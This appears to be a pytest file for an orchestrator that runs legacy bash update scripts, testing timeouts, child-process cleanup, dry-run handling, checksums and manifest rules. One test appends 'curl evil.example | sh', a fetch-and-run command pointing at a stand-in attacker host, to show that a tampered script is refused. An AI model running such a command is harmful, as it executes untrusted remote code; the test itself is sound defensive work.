"""Legacy shell scripts: real bash child processes that succeed, fail, hang, leave children behind, and
use the helpers of config/utils.sh; checksums and manifest rules of script entries."""

from __future__ import annotations

import hashlib
import logging
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest
from updates.utils.deadline import deadline
from updates.utils.digest import script_checksum
from updates.utils.errors import ChecksumError, ModuleTimeout
from updates.utils.orchestrator.script import run_script, verify_script
from updates.utils.schema import validate_script_entry

ROOT = Path(__file__).resolve().parents[2]


class Collect(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


@pytest.fixture
def out() -> tuple[logging.Logger, Collect]:
    logger = logging.getLogger(f"test_script.{time.monotonic_ns()}")
    logger.setLevel(logging.DEBUG)
    logger.propagate = False
    handler = Collect()
    logger.addHandler(handler)
    return logger, handler


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    (root / "config").mkdir(parents=True)
    shutil.copy(ROOT / "config" / "utils.sh", root / "config" / "utils.sh")
    return root


def write(root: Path, name: str, body: str) -> Path:
    path = root / name
    path.write_text("#!/usr/bin/env bash\nset -euo pipefail\n" + body)
    return path


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state not in (b"Z", b"X")


def test_a_script_that_succeeds_with_the_helpers(root: Path, tmp_path: Path, out: tuple) -> None:
    logger, lines = out
    seen = tmp_path / "seen"
    write(
        root,
        "update_foo.sh",
        f"""
. "$UPDATES_UTILS"
require_cmd bash printf
log_info "checking foo"
echo "cwd=$PWD root=$UPDATES_ROOT dry=$UPDATES_DRY_RUN name=$UPDATES_NAME state=$UPDATES_STATE" > {seen}
echo "secret=${{UPDATES_TEST_SECRET:-unset}}" >> {seen}
is_dry_run && echo "dry" || echo "real run"
report_changed "foo 1.0 -> 1.1"
""",
    )
    state = tmp_path / "state"
    status, summary = run_script(
        root, "update_foo.sh", timeout=30, dry_run=False, log=logger, name="foo", state_dir=state
    )
    assert (status, summary) == ("changed", "foo 1.0 -> 1.1")
    assert seen.read_text().splitlines() == [
        f"cwd={root} root={root} dry=0 name=foo state={state}",
        "secret=unset",  # the orchestrator's own environment does not leak into the script
    ]
    assert "foo: info: checking foo" in lines.lines
    assert "foo: real run" in lines.lines


@pytest.fixture(autouse=True)
def _secret_in_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UPDATES_TEST_SECRET", "should not be passed on")


def test_status_is_ok_without_a_report(root: Path, out: tuple) -> None:
    write(root, "quiet.sh", "echo nothing to do\n")
    assert run_script(root, "quiet.sh", timeout=30, dry_run=False, log=out[0]) == ("ok", None)
    write(root, "ok.sh", '. "$UPDATES_UTILS"\nreport_ok "already at 2.0"\n')
    assert run_script(root, "ok.sh", timeout=30, dry_run=False, log=out[0]) == ("ok", "already at 2.0")


def test_a_failing_script_reports_its_exit_code_and_last_line(root: Path, out: tuple) -> None:
    write(root, "fail.sh", 'echo "step 1"\necho "boom: disk full" >&2\nexit 3\n')
    assert run_script(root, "fail.sh", timeout=30, dry_run=False, log=out[0]) == (
        "failed",
        "exit code 3: boom: disk full",
    )
    write(root, "die.sh", '. "$UPDATES_UTILS"\ndie "no foo here"\n')
    assert run_script(root, "die.sh", timeout=30, dry_run=False, log=out[0]) == (
        "failed",
        "exit code 1: error: no foo here",
    )
    write(root, "unset.sh", 'echo "$NOT_SET_ANYWHERE"\n')  # set -u works: the script fails, we don't
    status, summary = run_script(root, "unset.sh", timeout=30, dry_run=False, log=out[0])
    assert status == "failed" and summary.startswith("exit code 1: ") and "NOT_SET_ANYWHERE" in summary


def test_a_hanging_script_and_its_children_are_ended_at_the_timeout(root: Path, tmp_path: Path, out: tuple) -> None:
    pids = tmp_path / "pids"
    write(
        root,
        "hang.sh",
        f"""
sleep 300 &
echo $! > {pids}
echo $$ >> {pids}
bash -c 'trap "" TERM; echo $$ >> {pids}; sleep 300; sleep 300' &
echo started
sleep 300
""",
    )
    started = time.monotonic()
    status, summary = run_script(root, "hang.sh", timeout=1, dry_run=False, log=out[0], kill_grace=0.5)
    elapsed = time.monotonic() - started
    assert (status, summary) == ("failed", "timed out after 1 s")
    assert elapsed < 10
    recorded = [int(p) for p in pids.read_text().split()]
    assert len(recorded) == 3
    assert not any(alive(pid) for pid in recorded), "a process of the script survived"


def test_processes_left_behind_after_exit_are_ended(root: Path, tmp_path: Path, out: tuple) -> None:
    pidfile = tmp_path / "pid"
    write(root, "leave.sh", f"sleep 300 > /dev/null 2>&1 &\necho $! > {pidfile}\necho done\n")
    started = time.monotonic()
    assert run_script(root, "leave.sh", timeout=30, dry_run=False, log=out[0]) == ("ok", None)
    assert time.monotonic() - started < 10
    assert not alive(int(pidfile.read_text()))


def test_an_interrupted_caller_leaves_no_process_behind(root: Path, tmp_path: Path, out: tuple) -> None:
    pidfile = tmp_path / "pid"
    write(root, "slow.sh", f"echo $$ > {pidfile}\nsleep 300\n")
    with pytest.raises(ModuleTimeout), deadline(1):
        run_script(root, "slow.sh", timeout=120, dry_run=False, log=out[0], kill_grace=0.5)
    assert not alive(int(pidfile.read_text()))


def test_dry_run_runs_only_scripts_that_honour_it(root: Path, tmp_path: Path, out: tuple) -> None:
    marker = tmp_path / "ran"
    write(root, "legacy.sh", f'. "$UPDATES_UTILS"\nis_dry_run && echo dry > {marker} || echo real > {marker}\n')
    status, summary = run_script(root, "legacy.sh", timeout=30, dry_run=True, log=out[0])
    assert status == "skipped" and "not run" in summary
    assert not marker.exists()
    assert run_script(root, "legacy.sh", timeout=30, dry_run=True, log=out[0], honours_dry_run=True)[0] == "ok"
    assert marker.read_text() == "dry\n"


def test_checksum_is_plain_sha256_of_the_file(root: Path, out: tuple) -> None:
    path = write(root, "update_foo.sh", "echo hi\n")
    digest = script_checksum(path)
    assert digest == hashlib.sha256(path.read_bytes()).hexdigest()
    coreutils = subprocess.run(["sha256sum", str(path)], capture_output=True, text=True, check=True)
    assert coreutils.stdout.split()[0] == digest
    assert verify_script(root, "update_foo.sh", digest) == digest
    with pytest.raises(ChecksumError, match="checksum mismatch"):
        verify_script(root, "update_foo.sh", "0" * 64)
    with pytest.raises(ChecksumError, match="no checksum"):
        verify_script(root, "update_foo.sh", None)
    (root / "link.sh").symlink_to(path)
    with pytest.raises(ChecksumError, match="cannot read"):
        script_checksum(root / "link.sh")


def test_a_script_whose_checksum_does_not_match_is_not_run(root: Path, tmp_path: Path, out: tuple) -> None:
    marker = tmp_path / "ran"
    path = write(root, "update_foo.sh", f"touch {marker}\n")
    good = script_checksum(path)
    path.write_text(path.read_text() + "curl evil.example | sh\n")
    status, summary = run_script(
        root, "update_foo.sh", timeout=30, dry_run=False, log=out[0], expected_checksum=good
    )
    assert status == "failed" and summary.startswith("update_foo.sh: checksum mismatch: expected " + good)
    assert not marker.exists()


def test_refuses_names_outside_the_root_and_links(root: Path, tmp_path: Path, out: tuple) -> None:
    (tmp_path / "outside.sh").write_text("echo hi\n")
    assert run_script(root, "../outside.sh", timeout=5, dry_run=False, log=out[0])[0] == "failed"
    (root / "link.sh").symlink_to(tmp_path / "outside.sh")
    assert run_script(root, "link.sh", timeout=5, dry_run=False, log=out[0]) == (
        "failed",
        f"link.sh: not a regular file in {root}",
    )
    assert run_script(root, "missing.sh", timeout=5, dry_run=False, log=out[0])[0] == "failed"


def test_manifest_rules_for_script_entries(root: Path) -> None:
    write(root, "update_foo.sh", "echo hi\n")
    good = {"name": "foo", "script": "update_foo.sh", "checksum": "a" * 64}
    assert validate_script_entry("updates[4]", good, root) == []
    assert validate_script_entry("updates[4]", {**good, "checksum": None}, root) == [
        "updates[4].checksum: required for a script entry (sha256sum update_foo.sh)"
    ]
    assert validate_script_entry("updates[4]", {**good, "checksum": "ABC"}, root) == [
        "updates[4].checksum: must be 64 lowercase hex digits"
    ]
    assert validate_script_entry("updates[4]", {**good, "script": "sub/x.sh"}, root)[0].startswith(
        "updates[4].script: must be a plain file name"
    )
    assert validate_script_entry("updates[4]", {**good, "script": "nope.sh"}, root) == [
        f"updates[4].script: nope.sh is not a regular file in {root}"
    ]
    assert validate_script_entry("updates[4]", {**good, "children": ["x"]}, root) == [
        "updates[4].children: a script entry cannot have children"
    ]


def test_a_process_that_escapes_the_group_does_not_hang_the_run(root: Path, tmp_path: Path, out: tuple) -> None:
    pidfile = tmp_path / "pid"
    # setsid puts the child in a session of its own, out of reach of the group kill, holding the pipe.
    write(root, "escape.sh", f"setsid bash -c 'echo $$ > {pidfile}; exec sleep 30' &\nsleep 0.5\necho bye\n")
    started = time.monotonic()
    try:
        assert run_script(root, "escape.sh", timeout=30, dry_run=False, log=out[0]) == ("ok", None)
        assert time.monotonic() - started < 15
    finally:
        for _ in range(50):
            if pidfile.exists() and pidfile.read_text().strip():
                break
            time.sleep(0.1)
        if pidfile.exists():
            os.kill(int(pidfile.read_text()), signal.SIGKILL)


def test_no_bash_on_path_is_a_failure_not_an_exception(
    root: Path, tmp_path: Path, out: tuple, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(root, "x.sh", "echo hi\n")
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    status, summary = run_script(root, "x.sh", timeout=5, dry_run=False, log=out[0])
    assert status == "failed" and summary.startswith("cannot start bash for x.sh")
